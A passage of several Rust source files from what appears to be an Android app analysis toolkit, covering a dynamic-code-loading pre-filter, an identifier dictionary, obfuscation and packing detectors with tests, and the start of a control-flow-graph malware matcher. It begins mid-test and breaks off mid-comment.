        assert!(lines[2].contains("app"), "got: {}", lines[2]);
        assert!(lines[3].contains("sweep"), "got: {}", lines[3]);
    }
}
