//! The static DCL pre-filter.
//!
//! As in the paper's system overview: after decompilation, check whether
//! the app *contains* DCL-related code — class-loader construction for DEX
//! or the JNI load APIs for native code. Reachability is deliberately not
//! verified; the filter only selects which apps enter the (expensive)
//! dynamic analysis.

use dydroid_dex::{DexFile, Instruction, InvokeKind};
use serde::{Deserialize, Serialize};

/// Class-loader classes whose construction indicates DEX DCL. Includes
/// the Grab'n-Run-style verified loader extension so hardened apps are
/// still measured.
pub const DEX_LOADER_CLASSES: [&str; 3] = [
    "dalvik.system.DexClassLoader",
    "dalvik.system.PathClassLoader",
    "dalvik.system.SecureDexClassLoader",
];

/// `(class, method)` pairs indicating native DCL via JNI.
pub const NATIVE_LOAD_APIS: [(&str, &str); 4] = [
    ("java.lang.System", "load"),
    ("java.lang.System", "loadLibrary"),
    ("java.lang.Runtime", "load"),
    ("java.lang.Runtime", "loadLibrary"),
];

/// The filter verdict for one app.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct DclFilter {
    /// The app references a DEX class loader.
    pub has_dex_dcl: bool,
    /// The app references a JNI native-load API.
    pub has_native_dcl: bool,
}

impl DclFilter {
    /// Whether the app passes the filter at all.
    pub fn any(self) -> bool {
        self.has_dex_dcl || self.has_native_dcl
    }

    /// Scans a DEX file for DCL-related code.
    pub fn scan(dex: &DexFile) -> Self {
        let mut result = DclFilter::default();
        for (_, method) in dex.methods() {
            for insn in &method.code {
                match insn {
                    Instruction::NewInstance { class, .. }
                        if DEX_LOADER_CLASSES.contains(&class.as_str()) =>
                    {
                        result.has_dex_dcl = true;
                    }
                    Instruction::Invoke {
                        method: mref, kind, ..
                    } => {
                        if DEX_LOADER_CLASSES.contains(&mref.class.as_str())
                            && (mref.name == "<init>" || *kind == InvokeKind::Direct)
                        {
                            result.has_dex_dcl = true;
                        }
                        if NATIVE_LOAD_APIS
                            .iter()
                            .any(|(c, m)| mref.class == *c && mref.name.starts_with(m))
                        {
                            result.has_native_dcl = true;
                        }
                    }
                    _ => {}
                }
                if result.has_dex_dcl && result.has_native_dcl {
                    return result;
                }
            }
        }
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, MethodRef};

    #[test]
    fn plain_app_filtered_out() {
        let mut b = DexBuilder::new();
        b.class("a.Main", "android.app.Activity")
            .method("onCreate", "()V", AccessFlags::PUBLIC)
            .ret_void();
        let f = DclFilter::scan(&b.build());
        assert!(!f.any());
    }

    #[test]
    fn dex_loader_detected_via_new_instance() {
        let mut b = DexBuilder::new();
        let c = b.class("a.L", "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.new_instance(0, "dalvik.system.DexClassLoader");
        m.ret_void();
        let f = DclFilter::scan(&b.build());
        assert!(f.has_dex_dcl);
        assert!(!f.has_native_dcl);
    }

    #[test]
    fn path_class_loader_detected() {
        let mut b = DexBuilder::new();
        let c = b.class("a.L", "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.new_instance(0, "dalvik.system.PathClassLoader");
        m.ret_void();
        assert!(DclFilter::scan(&b.build()).has_dex_dcl);
    }

    #[test]
    fn native_load_apis_detected() {
        for (class, method) in NATIVE_LOAD_APIS {
            let mut b = DexBuilder::new();
            let c = b.class("a.N", "java.lang.Object");
            let m = c.method("go", "()V", AccessFlags::PUBLIC);
            m.const_str(0, "x");
            m.invoke_static(
                MethodRef::new(class, method, "(Ljava/lang/String;)V"),
                vec![0],
            );
            m.ret_void();
            let f = DclFilter::scan(&b.build());
            assert!(f.has_native_dcl, "{class}.{method} not detected");
            assert!(!f.has_dex_dcl);
        }
    }

    #[test]
    fn load0_variant_detected() {
        // Android 7.1's Runtime.load0 — the paper notes one added hook.
        let mut b = DexBuilder::new();
        let c = b.class("a.N", "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.const_str(0, "x");
        m.invoke_static(
            MethodRef::new("java.lang.Runtime", "load0", "(Ljava/lang/String;)V"),
            vec![0],
        );
        m.ret_void();
        assert!(DclFilter::scan(&b.build()).has_native_dcl);
    }

    #[test]
    fn both_kinds_detected() {
        let mut b = DexBuilder::new();
        let c = b.class("a.B", "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.new_instance(0, "dalvik.system.DexClassLoader");
        m.const_str(1, "x");
        m.invoke_static(
            MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
            vec![1],
        );
        m.ret_void();
        let f = DclFilter::scan(&b.build());
        assert!(f.has_dex_dcl && f.has_native_dcl && f.any());
    }
}
