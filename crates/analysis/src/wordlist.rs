//! The natural-language word database used by the lexical-obfuscation
//! detector.
//!
//! The paper builds its database from DBpedia; here a compact embedded
//! dictionary of common English and programming vocabulary serves the same
//! decision: *does this identifier decompose into meaningful words?*
//! ProGuard-style names (`a`, `b`, `aa`) and random strings do not.

use std::collections::HashSet;
use std::sync::OnceLock;

/// The embedded dictionary (lowercase).
const WORDS: &str = "\
about above accept access account action active activity adapter add address admin ads advert \
after again alarm album alert all allow alpha also amount analytics and android angle animate \
animation answer any api app append apply archive area argument array arrow article artist ask \
asset assign async attach attempt audio auth author auto avatar back backup badge balance band \
banner bar base battery bean begin bell best beta bill binary bind bitmap block blue board body \
book bookmark boolean boot border bottom box brand bridge bright broadcast browser buffer bug \
build builder bundle business busy button buy bytes cache calendar call callback camera cancel \
candidate canvas capacity capture card care cart case cash cast catalog catch category cell \
center chain challenge change channel chapter char charge chart chat check child choice choose \
chrome circle city class classic clean clear click client clip clock clone close cloud cluster \
code coin collect color column combine comment commit common compare compass complete compress \
compute config confirm connect console constant contact contain content contest context control \
convert cookie coordinate copy core corner correct count counter country course cover craft \
crash create credit crop cross crypto current cursor curve custom customer cut daily dark dash \
data database date day deal debug decimal decode decrypt deep default defense define delay \
delegate delete deliver demo deny depth design desktop detail detect device dialog dictionary \
diff digest digit dimension direct direction directory disable discount discover disk dismiss \
dispatch display distance divide doc document dog domain done dot double down download draft \
drag draw drawer drive driver drop duration dump duplicate duty dynamic each early earn east \
easy echo economy edge edit editor education effect elastic element email empty enable encode \
encrypt end endpoint energy engine enter entity entry episode equal error event every exact \
example exchange exclude execute exercise exit expand expect expense expire export expose \
express extend extra extract face factory fail fall family fast favorite feature feed feedback \
fetch field fight file fill filter final find fine finger finish fire first fish fit fix flag \
flash flat flight flip float flow flush focus folder follow font food foot force forecast \
foreground form format forum forward found frame free freeze frequency fresh friend from front \
full fun function future gallery game gap garden gas gate general generate get gift give glass \
global goal gold good grade graph gray green grid group grow guard guess guest guide hand handle \
handler hard hash have head header health heart heavy height hello help here hero hidden hide \
high hint history hit hold home hook horizontal host hot hour house http icon identifier idle \
image import inbox include index info inflate init inject inner input insert inside install \
instance int interface internal interval intro invalid inventory invite invoke item iterator \
java job join json jump just keep kernel key keyboard kill kind king label lab land landscape \
lane language large last late latest launch launcher layer layout lazy lead leader leak learn \
left legacy length lesson letter level library license life light like limit line link list \
listen listener lite live load loader local location lock log login logo long look loop low \
machine macro magic mail main make manage manager manifest many map margin mark market mask \
master match material math matrix max maximum maybe measure media medium member memory menu \
merge message meta meter method metric middle midnight migrate million mine mini minimum minute \
mirror mix mobile mock mode model modify module moment money monitor month more motion mount \
mouse move movie multi music mute name nation native navigate near nest net network never new \
news next nice night node noise none normal north not note notice notification notify now null \
number object observe offer office offline offset often old once one online only opacity open \
operation option orange order origin other out outer output outside over overlay owner pack \
package pad page paint pair panel paper parallel param parent park parse part partial partner \
party pass password past paste patch path pattern pause pay payment peek peer pen pending people \
percent perform permission person phase phone photo pick picture piece pin ping pipe pitch pixel \
place plain plan plane platform play player please plot plugin plus point policy poll pool pop \
popup port portrait position post power prefer preference prefix preload premium prepare present \
preset press pretty preview price primary print priority privacy private prize process product \
profile program progress project promo promote prompt proof property protect protocol provider \
proxy public publish pull purchase purple push put puzzle quality query question queue quick \
quiet quit quota quote race radio random range rank rate rating raw reach react read reader \
ready real reason receipt receive recent recipe record rect red redirect reduce refresh region \
register regular reject relation release reload remain remind remote remove rename render renew \
repair repeat replace reply report request require reset resize resolve resource response rest \
restart restore result resume retry return reveal reverse review reward right ring risk road \
robot role roll room root rotate round route row rule run safe sale same sample save scale scan \
scene schedule schema scheme school score screen script scroll search season second secondary \
secret section secure security see seed seek segment select self sell send sensor sequence \
serial series server service session set setting setup shader shadow shake shape share sharp \
sheet shell shift ship shop short show shuffle side sign signal signature silent simple single \
site size skill skin skip sleep slice slide slot slow small smart smooth snap social socket soft \
solid solution solve song sort sound source south space spam span spawn special speed spell \
spend sphere spin splash split sport spot spread spring sprite square stack staff stage stamp \
star start state static station stats status stay step sticker stock stop storage store story \
stream street stretch strike string strip stroke strong style submit subscribe success suffix \
suggest suite sum summary sun super support sure surface survey swap sweep swipe switch symbol \
sync system tab table tag take talk tap target task tax team tech template temporary term test \
text texture theme thing thread three thumb ticket tile time timer tiny title to today toggle \
token tool top topic total touch tour track trade traffic train transaction transfer transform \
transit translate transparent trash travel tree trend trial trigger trim trip true trust try \
tune turn tutorial two type under undo unit unity unlock unread until up update upgrade upload \
upper url usage use user util validate value variable variant vector verify version vertical \
very via video view visible visit voice volume vote wait wake walk wall wallet want warm warn \
watch water wave way weak weather web week weight welcome west wheel when white wide widget \
width win window wire wish with word work worker world wrap write wrong yellow yes yesterday \
zero zone zoom";

fn dictionary() -> &'static HashSet<&'static str> {
    static DICT: OnceLock<HashSet<&'static str>> = OnceLock::new();
    DICT.get_or_init(|| WORDS.split_whitespace().collect())
}

/// Whether a single lowercase token is a dictionary word.
pub fn is_word(token: &str) -> bool {
    dictionary().contains(token)
}

/// Splits an identifier into candidate word tokens: camelCase boundaries,
/// digits and underscores separate tokens.
pub fn split_identifier(ident: &str) -> Vec<String> {
    let mut tokens = Vec::new();
    let mut current = String::new();
    let mut prev_lower = false;
    for c in ident.chars() {
        if c == '_' || c == '$' || c.is_ascii_digit() {
            if !current.is_empty() {
                tokens.push(std::mem::take(&mut current));
            }
            prev_lower = false;
            continue;
        }
        if c.is_uppercase() && prev_lower {
            tokens.push(std::mem::take(&mut current));
        }
        prev_lower = c.is_lowercase();
        current.extend(c.to_lowercase());
    }
    if !current.is_empty() {
        tokens.push(current);
    }
    tokens
}

/// Whether an identifier is "meaningful": at least half of its tokens of
/// length ≥ 3 are dictionary words, and it has at least one such token.
/// Short identifiers (`a`, `ab`) are never meaningful — they are exactly
/// what ProGuard emits.
pub fn is_meaningful(ident: &str) -> bool {
    let tokens = split_identifier(ident);
    let long: Vec<&String> = tokens.iter().filter(|t| t.len() >= 3).collect();
    if long.is_empty() {
        return false;
    }
    let hits = long.iter().filter(|t| is_word(t)).count();
    hits * 2 >= long.len()
}

/// Number of entries in the dictionary (for sanity checks).
pub fn dictionary_size() -> usize {
    dictionary().len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dictionary_loaded() {
        assert!(dictionary_size() > 900, "got {}", dictionary_size());
        assert!(is_word("download"));
        assert!(is_word("activity"));
        assert!(!is_word("xqzv"));
    }

    #[test]
    fn splitter() {
        assert_eq!(
            split_identifier("loadAdContent"),
            vec!["load", "ad", "content"]
        );
        assert_eq!(split_identifier("HTTPClient"), vec!["httpclient"]);
        assert_eq!(split_identifier("user_name"), vec!["user", "name"]);
        assert_eq!(split_identifier("a1b2"), vec!["a", "b"]);
        assert_eq!(split_identifier("URLLoader"), vec!["urlloader"]);
        assert!(split_identifier("").is_empty());
    }

    #[test]
    fn meaningful_identifiers() {
        assert!(is_meaningful("downloadManager"));
        assert!(is_meaningful("onClickButton"));
        assert!(is_meaningful("MainActivity"));
        assert!(is_meaningful("parseConfigFile"));
    }

    #[test]
    fn obfuscated_identifiers() {
        assert!(!is_meaningful("a"));
        assert!(!is_meaningful("ab"));
        assert!(!is_meaningful("aaa"));
        assert!(!is_meaningful("qzx"));
        assert!(!is_meaningful("zzqk"));
        assert!(!is_meaningful("a1"));
    }

    #[test]
    fn mixed_identifiers() {
        // Majority meaningful tokens wins.
        assert!(is_meaningful("loadXyzzyData")); // load + data vs xyzzy
        assert!(!is_meaningful("qjk_zzv_load")); // 1 of 3
    }
}
