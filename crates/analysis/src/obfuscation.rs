//! Obfuscation analysis (Section III-D, Table VI, Figure 3).
//!
//! Five detectors:
//!
//! - **Lexical obfuscation** — identifiers checked against the word
//!   database; ProGuard/Allatori-style renamed apps have mostly
//!   meaningless identifiers.
//! - **Reflection** — presence of `java.lang.reflect` APIs.
//! - **Native code** — bundled `.so` libraries or `native` methods.
//! - **DEX encryption** (packing) — the three-rule pattern shared by
//!   Bangcle/Ijiami/360/Alibaba: (1) a custom `Application` container
//!   that creates a class loader, (2) manifest components missing from
//!   the decompiled code while a bytecode-capable file sits in local
//!   resources, (3) the container loading a native decryption stub.
//! - **Anti-decompilation** — reported by the decompiler itself (the app
//!   never reaches this module); see [`crate::decompiler`].

use dydroid_dex::{ClassDef, DexFile, Instruction, Manifest};
use serde::{Deserialize, Serialize};

use crate::decompiler::DecompiledApp;
use crate::filter::{DEX_LOADER_CLASSES, NATIVE_LOAD_APIS};
use crate::wordlist;

/// One anti-reverse-engineering technique.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Technique {
    /// Identifier renaming.
    Lexical,
    /// Runtime reflection.
    Reflection,
    /// Native code.
    Native,
    /// Bytecode encryption + dynamic loading (packing).
    DexEncryption,
    /// Decompiler-crashing tricks.
    AntiDecompilation,
}

/// Per-app obfuscation verdicts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct ObfuscationReport {
    /// Lexical obfuscation detected.
    pub lexical: bool,
    /// Reflection usage detected.
    pub reflection: bool,
    /// Native code present.
    pub native: bool,
    /// The DEX-encryption packing pattern matched.
    pub dex_encryption: bool,
    /// Anti-decompilation (set by the caller when decompilation failed).
    pub anti_decompilation: bool,
}

impl ObfuscationReport {
    /// Whether `technique` was detected.
    pub fn has(&self, technique: Technique) -> bool {
        match technique {
            Technique::Lexical => self.lexical,
            Technique::Reflection => self.reflection,
            Technique::Native => self.native,
            Technique::DexEncryption => self.dex_encryption,
            Technique::AntiDecompilation => self.anti_decompilation,
        }
    }

    /// The report recorded for apps that crashed the decompiler: nothing
    /// else can be measured, only anti-decompilation.
    pub fn anti_decompilation_only() -> Self {
        ObfuscationReport {
            anti_decompilation: true,
            ..Default::default()
        }
    }
}

/// Runs all detectors on a successfully decompiled app.
pub fn analyze(app: &DecompiledApp) -> ObfuscationReport {
    ObfuscationReport {
        lexical: detect_lexical(&app.classes),
        reflection: detect_reflection(&app.classes),
        native: detect_native(app),
        dex_encryption: detect_dex_encryption(app),
        anti_decompilation: false,
    }
}

/// Lifecycle/entry-point method names that survive renaming and must not
/// count toward "meaningful" identifiers.
const KEPT_NAMES: [&str; 10] = [
    "onCreate",
    "onStart",
    "onResume",
    "onPause",
    "onStop",
    "onDestroy",
    "onClick",
    "main",
    "<init>",
    "<clinit>",
];

/// Decides lexical obfuscation: fewer than half of the app's renameable
/// identifiers are meaningful words.
pub fn detect_lexical(dex: &DexFile) -> bool {
    let mut total = 0usize;
    let mut meaningful = 0usize;
    for class in dex.classes() {
        let (_, simple) = dydroid_dex::types::split_class_name(&class.name);
        total += 1;
        if wordlist::is_meaningful(simple) {
            meaningful += 1;
        }
        for field in &class.fields {
            total += 1;
            if wordlist::is_meaningful(&field.name) {
                meaningful += 1;
            }
        }
        for method in &class.methods {
            if KEPT_NAMES.contains(&method.name.as_str()) {
                continue;
            }
            total += 1;
            if wordlist::is_meaningful(&method.name) {
                meaningful += 1;
            }
        }
    }
    if total == 0 {
        return false;
    }
    meaningful * 2 < total
}

/// Detects reflection: any reference to the `java.lang.reflect` package —
/// exactly the paper's rule. (`Class.newInstance` alone is deliberately
/// not counted: every class-loader user calls it, and the paper measures
/// reflection as a distinct technique.)
pub fn detect_reflection(dex: &DexFile) -> bool {
    for (_, method) in dex.methods() {
        for insn in &method.code {
            if let Some(mref) = insn.invoked_method() {
                if mref.class.starts_with("java.lang.reflect") {
                    return true;
                }
            }
        }
    }
    false
}

/// Detects native code: bundled `.so` entries or `native` methods.
pub fn detect_native(app: &DecompiledApp) -> bool {
    if app.apk.entries_under("lib/").next().is_some() {
        return true;
    }
    app.classes
        .methods()
        .any(|(_, m)| m.flags.contains(dydroid_dex::AccessFlags::NATIVE))
}

fn class_creates_class_loader(class: &ClassDef) -> bool {
    class.methods.iter().any(|m| {
        m.code.iter().any(|insn| match insn {
            Instruction::NewInstance { class, .. } => DEX_LOADER_CLASSES.contains(&class.as_str()),
            Instruction::Invoke { method, .. } => {
                DEX_LOADER_CLASSES.contains(&method.class.as_str()) && method.name == "<init>"
            }
            _ => false,
        })
    })
}

fn class_loads_native(class: &ClassDef) -> bool {
    class.methods.iter().any(|m| {
        m.code.iter().any(|insn| {
            insn.invoked_method()
                .map(|mref| {
                    NATIVE_LOAD_APIS
                        .iter()
                        .any(|(c, n)| mref.class == *c && mref.name.starts_with(n))
                })
                .unwrap_or(false)
        })
    })
}

/// Whether all manifest-declared components exist in the decompiled code.
pub fn components_all_present(manifest: &Manifest, dex: &DexFile) -> bool {
    manifest
        .components
        .iter()
        .all(|c| dex.class(&c.class).is_some())
}

/// Whether a local resource could hold encrypted bytecode (any asset).
fn has_local_bytecode_store(app: &DecompiledApp) -> bool {
    app.apk.entries_under("assets/").next().is_some()
}

/// The three-rule DEX-encryption detector.
pub fn detect_dex_encryption(app: &DecompiledApp) -> bool {
    // Rule 1: a custom Application container that creates a class loader.
    let Some(container_name) = &app.manifest.application_class else {
        return false;
    };
    let Some(container) = app.classes.class(container_name) else {
        return false;
    };
    if !class_creates_class_loader(container) {
        return false;
    }
    // Rule 2: declared components missing from the decompiled code, and a
    // file that can store bytecode packed locally.
    if components_all_present(&app.manifest, &app.classes) {
        return false;
    }
    if !has_local_bytecode_store(app) {
        return false;
    }
    // Rule 3: the container loads a native decryption stub.
    if !class_loads_native(container) {
        return false;
    }
    app.apk.entries_under("lib/").next().is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decompiler::decompile;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, Apk, Component, MethodRef};

    fn decompiled(apk: Apk) -> DecompiledApp {
        decompile(&apk.to_bytes()).unwrap()
    }

    fn plain_classes(pkg: &str) -> DexFile {
        let mut b = DexBuilder::new();
        let c = b.class(format!("{pkg}.MainActivity"), "android.app.Activity");
        c.field("downloadManager", "I", AccessFlags::PRIVATE);
        c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
        c.method("refreshContent", "()V", AccessFlags::PUBLIC)
            .ret_void();
        c.method("loadUserProfile", "()V", AccessFlags::PUBLIC)
            .ret_void();
        b.build()
    }

    fn proguard_classes() -> DexFile {
        let mut b = DexBuilder::new();
        let c = b.class("a.a.a", "android.app.Activity");
        c.field("a", "I", AccessFlags::PRIVATE);
        c.field("b", "I", AccessFlags::PRIVATE);
        c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
        c.method("a", "()V", AccessFlags::PUBLIC).ret_void();
        c.method("b", "()V", AccessFlags::PUBLIC).ret_void();
        c.method("c", "()V", AccessFlags::PUBLIC).ret_void();
        b.build()
    }

    #[test]
    fn lexical_detector() {
        assert!(!detect_lexical(&plain_classes("com.x")));
        assert!(detect_lexical(&proguard_classes()));
        assert!(!detect_lexical(&DexFile::new()));
    }

    #[test]
    fn reflection_detector() {
        // Class.forName alone is NOT reflection per the paper's rule.
        let mut b = DexBuilder::new();
        let c = b.class("com.x.R", "java.lang.Object");
        let m = c.method("peek", "()V", AccessFlags::PUBLIC);
        m.const_str(0, "com.x.Hidden");
        m.invoke_static(
            MethodRef::new(
                "java.lang.Class",
                "forName",
                "(Ljava/lang/String;)Ljava/lang/Class;",
            ),
            vec![0],
        );
        m.ret_void();
        assert!(!detect_reflection(&b.build()));
        assert!(!detect_reflection(&plain_classes("com.x")));

        let mut b = DexBuilder::new();
        let c = b.class("com.x.R2", "java.lang.Object");
        let m = c.method("call", "()V", AccessFlags::PUBLIC);
        m.invoke_virtual(
            MethodRef::new(
                "java.lang.reflect.Method",
                "invoke",
                "(Ljava/lang/Object;)Ljava/lang/Object;",
            ),
            vec![0, 1],
        );
        m.ret_void();
        assert!(detect_reflection(&b.build()));
    }

    #[test]
    fn native_detector() {
        let mut manifest = Manifest::new("com.x");
        manifest
            .components
            .push(Component::main_activity("com.x.MainActivity"));
        let mut apk = Apk::build(manifest.clone(), plain_classes("com.x"));
        assert!(!detect_native(&decompiled(apk.clone())));
        apk.put("lib/armeabi/libfoo.so", vec![1]);
        assert!(detect_native(&decompiled(apk)));

        // Native methods without a bundled lib also count.
        let mut b = DexBuilder::new();
        let c = b.class("com.x.MainActivity", "android.app.Activity");
        c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
        c.method("decrypt", "()V", AccessFlags::PUBLIC | AccessFlags::NATIVE);
        let apk = Apk::build(manifest, b.build());
        assert!(detect_native(&decompiled(apk)));
    }

    /// Builds the canonical packed-app shape.
    fn packed_apk(
        with_container_loader: bool,
        with_missing_components: bool,
        with_assets: bool,
        with_native_stub: bool,
    ) -> Apk {
        let pkg = "com.packed";
        let mut manifest = Manifest::new(pkg);
        manifest.application_class = Some(format!("{pkg}.StubApp"));
        manifest
            .components
            .push(Component::main_activity(format!("{pkg}.RealMain")));

        let mut b = DexBuilder::new();
        {
            let c = b.class(format!("{pkg}.StubApp"), "android.app.Application");
            let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
            m.registers(8);
            if with_native_stub {
                m.const_str(1, "shield");
                m.invoke_static(
                    MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
                    vec![1],
                );
            }
            if with_container_loader {
                m.new_instance(2, "dalvik.system.DexClassLoader");
                m.const_str(3, "/data/data/com.packed/files/dec.dex");
                m.const_str(4, "/data/data/com.packed/odex");
                m.invoke_direct(
                    MethodRef::new(
                        "dalvik.system.DexClassLoader",
                        "<init>",
                        "(Ljava/lang/String;Ljava/lang/String;)V",
                    ),
                    vec![2, 3, 4],
                );
            }
            m.ret_void();
        }
        if !with_missing_components {
            let c = b.class(format!("{pkg}.RealMain"), "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
        }
        let mut apk = Apk::build(manifest, b.build());
        if with_assets {
            apk.put("assets/enc.bin", vec![0xAA; 32]);
        }
        if with_native_stub {
            apk.put("lib/armeabi/libshield.so", vec![1]);
        }
        apk
    }

    #[test]
    fn dex_encryption_full_pattern_detected() {
        let app = decompiled(packed_apk(true, true, true, true));
        assert!(detect_dex_encryption(&app));
        let report = analyze(&app);
        assert!(report.dex_encryption);
        assert!(report.has(Technique::DexEncryption));
    }

    #[test]
    fn dex_encryption_requires_all_three_rules() {
        // Missing container loader.
        assert!(!detect_dex_encryption(&decompiled(packed_apk(
            false, true, true, true
        ))));
        // Components all present (rule 2 fails).
        assert!(!detect_dex_encryption(&decompiled(packed_apk(
            true, false, true, true
        ))));
        // No local bytecode store.
        assert!(!detect_dex_encryption(&decompiled(packed_apk(
            true, true, false, true
        ))));
        // No native stub.
        assert!(!detect_dex_encryption(&decompiled(packed_apk(
            true, true, true, false
        ))));
    }

    #[test]
    fn plain_app_has_clean_report() {
        let mut manifest = Manifest::new("com.x");
        manifest
            .components
            .push(Component::main_activity("com.x.MainActivity"));
        let app = decompiled(Apk::build(manifest, plain_classes("com.x")));
        let report = analyze(&app);
        assert!(!report.lexical);
        assert!(!report.reflection);
        assert!(!report.native);
        assert!(!report.dex_encryption);
        assert!(!report.anti_decompilation);
    }

    #[test]
    fn anti_decompilation_only_report() {
        let report = ObfuscationReport::anti_decompilation_only();
        assert!(report.anti_decompilation);
        assert!(report.has(Technique::AntiDecompilation));
        assert!(!report.has(Technique::Lexical));
    }

    #[test]
    fn components_presence_check() {
        let mut manifest = Manifest::new("com.x");
        manifest
            .components
            .push(Component::main_activity("com.x.MainActivity"));
        let dex = plain_classes("com.x");
        assert!(components_all_present(&manifest, &dex));
        manifest
            .components
            .push(Component::main_activity("com.x.Ghost"));
        assert!(!components_all_present(&manifest, &dex));
    }
}
