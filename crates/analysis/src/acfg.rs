//! Annotated control-flow graphs and the DroidNative-like matcher.
//!
//! Each MAIL function becomes an [`Acfg`]: basic blocks annotated with a
//! pattern signature (the hash of the block's statement sequence plus its
//! out-degree). Detection is subgraph matching against trained family
//! signatures: a test binary is flagged when, for some training sample,
//! at least `threshold` (default 90%, as in the paper) of the training
//! sample's annotated blocks have a parallel match in the test binary.
//!
//! # Indexed matching
//!
//! The matcher is *indexed*: at train time every sample's block multiset
//! is folded into an inverted index `BlockSig → [(sample, count)]`
//! ([`SigIndex`]). Detection builds the test binary's block pool once,
//! walks only the test's **distinct** signatures through the index, and
//! accumulates the exact multiset-intersection size per candidate sample
//! in a single pass — samples sharing no block with the test are never
//! touched, so per-binary cost no longer grows with the full trained
//! corpus. A precomputed integer bound (`min_matched`, the smallest
//! matched-block count whose score reaches the threshold under the same
//! `f64` comparison the naive scan performs) prunes candidates without a
//! division, and an exact-1.0 match ends the candidate scan early (no
//! later sample can *strictly* beat it, which is what best-match
//! selection requires). The quadratic reference scan survives as
//! [`MalwareDetector::detect_sig_naive`] for baselines and differential
//! tests; both paths return identical [`FamilyMatch`] verdicts.

use std::collections::hash_map::DefaultHasher;
use std::collections::HashMap;
use std::hash::{Hash, Hasher};
use std::sync::atomic::{AtomicU64, Ordering};

use serde::{Deserialize, Serialize};

use crate::mail::{CodeBinary, MailFunction};

/// The default match threshold from the paper (≥ 90% ACFG match).
pub const DEFAULT_THRESHOLD: f64 = 0.9;

/// A basic block's annotation: a stable hash of its MAIL statement
/// sequence, plus its out-degree in the CFG.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct BlockSig {
    /// Hash of the statement sequence.
    pub pattern: u64,
    /// Number of CFG successors.
    pub out_degree: u8,
}

/// An annotated CFG for one function.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Acfg {
    /// Function identifier.
    pub name: String,
    /// One signature per basic block.
    pub blocks: Vec<BlockSig>,
}

impl Acfg {
    /// Builds the ACFG of a MAIL function.
    pub fn build(func: &MailFunction) -> Self {
        let code = &func.code;
        let n = code.len();
        // Leaders: entry, every branch target, every instruction after a
        // control transfer.
        let mut is_leader = vec![false; n.max(1)];
        if n > 0 {
            is_leader[0] = true;
        }
        for (i, insn) in code.iter().enumerate() {
            if let Some(t) = insn.target {
                if (t as usize) < n {
                    is_leader[t as usize] = true;
                }
            }
            if (insn.target.is_some() || !insn.falls_through) && i + 1 < n {
                is_leader[i + 1] = true;
            }
        }
        // Block spans.
        let mut starts: Vec<usize> = (0..n).filter(|&i| is_leader[i]).collect();
        starts.push(n);
        let mut block_of = vec![0usize; n];
        for w in 0..starts.len().saturating_sub(1) {
            block_of[starts[w]..starts[w + 1]].fill(w);
        }
        let block_count = starts.len().saturating_sub(1);
        // Successors: each block's terminator contributes at most a
        // branch target and a fall-through edge; collect then sort+dedup
        // instead of scanning the vector per insertion.
        let mut succs: Vec<Vec<usize>> = vec![Vec::new(); block_count];
        for (w, edges) in succs.iter_mut().enumerate() {
            let last = starts[w + 1] - 1;
            let insn = &code[last];
            if let Some(t) = insn.target {
                if (t as usize) < n {
                    edges.push(block_of[t as usize]);
                }
            }
            if insn.falls_through && last + 1 < n {
                edges.push(block_of[last + 1]);
            }
            edges.sort_unstable();
            edges.dedup();
        }
        // Signatures.
        let mut blocks = Vec::with_capacity(block_count);
        for w in 0..block_count {
            let mut hasher = DefaultHasher::new();
            for insn in &code[starts[w]..starts[w + 1]] {
                insn.stmt.hash(&mut hasher);
            }
            blocks.push(BlockSig {
                pattern: hasher.finish(),
                out_degree: succs[w].len().min(255) as u8,
            });
        }
        Acfg {
            name: func.name.clone(),
            blocks,
        }
    }

    /// Number of blocks.
    pub fn len(&self) -> usize {
        self.blocks.len()
    }

    /// Whether the graph is empty.
    pub fn is_empty(&self) -> bool {
        self.blocks.is_empty()
    }
}

/// Fraction of `training`'s blocks with a parallel match in `test`
/// (multiset containment over block signatures).
pub fn match_fraction(training: &[BlockSig], test: &[BlockSig]) -> f64 {
    if training.is_empty() {
        return 0.0;
    }
    let mut pool: HashMap<BlockSig, usize> = HashMap::new();
    for sig in test {
        *pool.entry(*sig).or_insert(0) += 1;
    }
    let mut matched = 0usize;
    for sig in training {
        if let Some(count) = pool.get_mut(sig) {
            if *count > 0 {
                *count -= 1;
                matched += 1;
            }
        }
    }
    matched as f64 / training.len() as f64
}

/// A whole binary's signature: the flattened block multiset of all its
/// function ACFGs (weighted subgraph matching across functions).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BinarySig {
    blocks: Vec<BlockSig>,
    functions: usize,
}

impl BinarySig {
    /// Builds the signature of a binary.
    pub fn build(binary: &CodeBinary) -> Self {
        let funcs = binary.to_mail();
        let acfgs: Vec<Acfg> = funcs.iter().map(Acfg::build).collect();
        let functions = acfgs.len();
        let total: usize = acfgs.iter().map(|a| a.blocks.len()).sum();
        // Consume the ACFGs and drain their blocks by move — no per-graph
        // clone of the block vectors.
        let mut blocks = Vec::with_capacity(total);
        for mut acfg in acfgs {
            blocks.append(&mut acfg.blocks);
        }
        BinarySig { blocks, functions }
    }

    /// A signature from a raw block multiset (synthetic corpora: the
